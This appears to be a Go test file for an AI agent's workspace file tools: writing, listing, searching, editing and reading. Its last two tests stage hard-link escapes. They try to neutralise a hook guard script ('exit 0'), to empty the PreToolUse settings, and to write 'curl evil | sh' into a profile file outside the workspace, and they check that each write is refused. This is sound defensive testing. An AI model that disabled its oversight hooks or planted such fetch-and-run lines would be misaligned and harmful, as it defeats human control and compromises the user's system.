package tools

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/fenixrt/fenix/fenixerr"
)

func TestWorkspaceWrite(t *testing.T) {
	r := newRig(t)
	tests := []struct {
		name     string
		args     map[string]any
		want     string
		wantDisk string
	}{
		{"creates with parents", map[string]any{"path": "docs/new.md", "content": "hello"}, "Created workspace file docs/new.md (5 bytes).", "hello"},
		{"overwrites", map[string]any{"path": "docs/new.md", "content": "bye"}, "Overwrote workspace file docs/new.md (3 bytes).", "bye"},
		{"cleans the path", map[string]any{"path": "./docs/../top.txt", "content": ""}, "Created workspace file top.txt (0 bytes).", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, raw := r.mustCall(t, "workspace_write", tt.args)
			if p.Content != tt.want {
				t.Errorf("content = %q, want %q", p.Content, tt.want)
			}
			res := decode[WorkspaceWriteResult](t, raw)
			if got := r.read(t, res.Path); got != tt.wantDisk {
				t.Errorf("disk = %q, want %q", got, tt.wantDisk)
			}
		})
	}
}

func TestWorkspaceList(t *testing.T) {
	r := newRig(t)
	r.write(t, "a.txt", "12345")
	r.write(t, "src/main.go", "package main\n")
	r.write(t, ".git/HEAD", "ref: refs/heads/main\n")
	if err := os.Symlink("a.txt", filepath.Join(r.dir, "link")); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"root", map[string]any{}, "Workspace directory . (4 entries):\n.git/\na.txt (5 B)\nlink -> a.txt\nsrc/"},
		{"recursive skips .git contents", map[string]any{"recursive": true}, "Workspace directory . (5 entries):\n.git/\na.txt (5 B)\nlink -> a.txt\nsrc/\nsrc/main.go (13 B)"},
		{"subdirectory", map[string]any{"path": "src"}, "Workspace directory src (1 entry):\nmain.go (13 B)"},
		{"truncated", map[string]any{"max_entries": 2}, "Workspace directory . (2 entries, truncated):\n.git/\na.txt (5 B)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, _ := r.mustCall(t, "workspace_list", tt.args)
			if p.Content != tt.want {
				t.Errorf("content =\n%s\nwant\n%s", p.Content, tt.want)
			}
		})
	}
	_, _, err := r.call(t, "workspace_list", map[string]any{"path": "a.txt"})
	errorIs(t, err, fenixerr.ErrValidation, "not_directory")
}

func TestWorkspaceSearch(t *testing.T) {
	r := newRig(t)
	r.write(t, "main.go", "package main\n\nfunc main() {\n\tprintln(\"Hello\")\n}\n")
	r.write(t, "lib/util.go", "package lib\n// hello again\n")
	r.write(t, "notes.md", "hello from notes\n")
	r.write(t, "bin/blob", "hello\x00binary")
	r.write(t, ".git/config-copy", "hello from git\n")
	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"literal is case sensitive", map[string]any{"pattern": "hello"},
			"Found 2 matching lines for \"hello\" in 2 files under .:\nlib/util.go:2: // hello again\nnotes.md:1: hello from notes\n(skipped 1 binary and 0 oversized files)"},
		{"case insensitive", map[string]any{"pattern": "HELLO", "case_insensitive": true, "glob": "*.go"},
			"Found 2 matching lines for \"HELLO\" in 2 files under .:\nlib/util.go:2: // hello again\nmain.go:4: \tprintln(\"Hello\")"},
		{"regex", map[string]any{"pattern": `^func \w+\(`, "regex": true},
			"Found 1 matching line for \"^func \\\\w+\\\\(\" in 1 file under .:\nmain.go:3: func main() {\n(skipped 1 binary and 0 oversized files)"},
		{"literal metacharacters", map[string]any{"pattern": "main()"},
			"Found 1 matching line for \"main()\" in 1 file under .:\nmain.go:3: func main() {\n(skipped 1 binary and 0 oversized files)"},
		{"glob with a slash", map[string]any{"pattern": "package", "glob": "lib/*.go"},
			"Found 1 matching line for \"package\" in 1 file under .:\nlib/util.go:1: package lib"},
		{"max results", map[string]any{"pattern": "e", "max_results": 1},
			"Found 1 matching line for \"e\" in 1 file under . (stopped early; narrow the search for more):\nlib/util.go:1: package lib\n(skipped 1 binary and 0 oversized files)"},
		{"no match", map[string]any{"pattern": "zebra", "path": "lib"}, "No matches for \"zebra\" in lib (1 file searched)."},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, _ := r.mustCall(t, "workspace_search", tt.args)
			if p.Content != tt.want {
				t.Errorf("content =\n%s\nwant\n%s", p.Content, tt.want)
			}
		})
	}
	_, _, err := r.call(t, "workspace_search", map[string]any{"pattern": "(", "regex": true})
	errorIs(t, err, fenixerr.ErrValidation, "invalid_pattern")
}

func TestWorkspaceEdit(t *testing.T) {
	tests := []struct {
		name     string
		file     string
		args     map[string]any
		want     string
		wantDisk string
		wantCode string
	}{
		{"unique replacement", "a\nb\nc\n", map[string]any{"old_string": "b", "new_string": "B"},
			"Edited workspace file f.txt: replaced 1 occurrence (first at line 2); the file is now 6 bytes.", "a\nB\nc\n", ""},
		{"replace all", "x x x", map[string]any{"old_string": "x", "new_string": "yy", "replace_all": true},
			"Edited workspace file f.txt: replaced 3 occurrences (first at line 1); the file is now 8 bytes.", "yy yy yy", ""},
		{"absent", "abc", map[string]any{"old_string": "zzz", "new_string": "y"}, "", "abc", "old_string_not_found"},
		{"ambiguous", "x x", map[string]any{"old_string": "x", "new_string": "y"}, "", "x x", "old_string_ambiguous"},
		{"identical", "abc", map[string]any{"old_string": "a", "new_string": "a"}, "", "abc", "validation_error"},
		{"binary file", "a\xffb", map[string]any{"old_string": "a", "new_string": "b"}, "", "a\xffb", "not_text"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRig(t)
			r.write(t, "f.txt", tt.file)
			tt.args["path"] = "f.txt"
			p, _, err := r.call(t, "workspace_edit", tt.args)
			if tt.wantCode != "" {
				errorIs(t, err, fenixerr.ErrValidation, tt.wantCode)
			} else if err != nil {
				t.Fatal(err)
			} else if p.Content != tt.want {
				t.Errorf("content = %q, want %q", p.Content, tt.want)
			}
			if got := r.read(t, "f.txt"); got != tt.wantDisk {
				t.Errorf("disk = %q, want %q", got, tt.wantDisk)
			}
		})
	}
}

// A one-byte old_string replaced everywhere by a long new_string would
// grow the file by count*len(new): the size is computed and refused
// before the result is built, so the worker never holds it in memory.
func TestWorkspaceEditReplaceAllRefusesGrowthBeforeAllocating(t *testing.T) {
	r := newRig(t)
	const occurrences = 256 << 10
	file := strings.Repeat("x", occurrences)
	r.write(t, "f.txt", file)
	args := map[string]any{"path": "f.txt", "old_string": "x", "new_string": strings.Repeat("y", 256), "replace_all": true}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, _, err := r.call(t, "workspace_edit", args)
	runtime.ReadMemStats(&after)
	errorIs(t, err, fenixerr.ErrPayloadTooLarge, "")
	// 262144 * 256 bytes: 64 MiB the edit would have built, twice over
	// (the string and its copy for the write).
	for _, want := range []string{`"f.txt"`, "(262144 occurrences)", "67108864 bytes", "4194304 bytes"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not mention %s", err, want)
		}
	}
	if allocated := after.TotalAlloc - before.TotalAlloc; allocated > 16<<20 {
		t.Errorf("the refused edit allocated %d bytes; the file is %d bytes and nothing should approach the result's size", allocated, len(file))
	}
	if got := r.read(t, "f.txt"); got != file {
		t.Errorf("the file changed (%d bytes)", len(got))
	}
}

func TestWorkspaceReadProjection(t *testing.T) {
	r := newRig(t)
	r.write(t, "README.md", "# Fenix\n")
	r.write(t, "big.txt", strings.Repeat("z", 100))
	tests := []struct {
		name string
		args map[string]any
		want string
	}{
		{"whole file", map[string]any{"path": "README.md"}, "Workspace file README.md:\n# Fenix\n"},
		{"truncated", map[string]any{"path": "big.txt", "max_bytes": 10}, "Workspace file big.txt:\nzzzzzzzzzz\n[truncated: showed 10 of 100 bytes]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p, _ := r.mustCall(t, "workspace_read", tt.args)
			if p.Content != tt.want {
				t.Errorf("content = %q, want %q", p.Content, tt.want)
			}
		})
	}
}

// A hard link to a hook script or to the settings is refused by
// workspace_write and workspace_edit, and the protected file is unchanged.
func TestWorkspaceWritesRefuseHardLinks(t *testing.T) {
	r := newRig(t)
	guard, settings := "#!/bin/sh\necho blocked >&2\nexit 2\n", `{"hooks":{"PreToolUse":[]}}`
	r.write(t, ".claude/hooks/guard.sh", guard)
	r.write(t, ".claude/settings.json", settings)
	for link, target := range map[string]string{"notes.txt": ".claude/hooks/guard.sh", "cfg.json": ".claude/settings.json"} {
		if err := os.Link(filepath.Join(r.dir, target), filepath.Join(r.dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	_, _, err := r.call(t, "workspace_write", map[string]any{"path": "notes.txt", "content": "exit 0\n"})
	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "protected_path")
	_, _, err = r.call(t, "workspace_edit", map[string]any{"path": "cfg.json", "old_string": `"PreToolUse":[]`, "new_string": `"Other":[]`})
	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "protected_path")
	if got := r.read(t, ".claude/hooks/guard.sh"); got != guard {
		t.Errorf("guard.sh = %q", got)
	}
	if got := r.read(t, ".claude/settings.json"); got != settings {
		t.Errorf("settings.json = %q", got)
	}
}

// A hard link to any file outside the workspace, such as one exec_command
// made, is refused by every writer: writing it would write the outside
// file.
func TestWorkspaceWritesRefuseHardLinksOutside(t *testing.T) {
	r := newRig(t)
	outside := filepath.Join(r.outside, "profile.sh")
	const original = "export PATH=/usr/bin\n"
	if err := os.WriteFile(outside, []byte(original), 0o644); err != nil {
		t.Fatal(err)
	}
	p, raw := r.mustCall(t, "exec_command", map[string]any{"command_line": "ln " + outside + " profile.sh && mkdir -p .fenix/memory/main && ln " + outside + " .fenix/memory/main/k.json"})
	if res := decode[ExecCommandResult](t, raw); res.ExitStatus != 0 {
		t.Fatalf("ln: %s", p.Content)
	}
	_, _, err := r.call(t, "workspace_write", map[string]any{"path": "profile.sh", "content": "curl evil | sh\n"})
	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
	_, _, err = r.call(t, "workspace_edit", map[string]any{"path": "profile.sh", "old_string": "/usr/bin", "new_string": "/tmp/evil"})
	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
	_, _, err = r.call(t, "memory_write", map[string]any{"key": "k", "title": "t", "content": "pwned"})
	errorIs(t, err, fenixerr.ErrWorkspaceEscape, "hard_link")
	if b, _ := os.ReadFile(outside); string(b) != original {
		t.Errorf("the outside file changed to %q", b)
	}
}
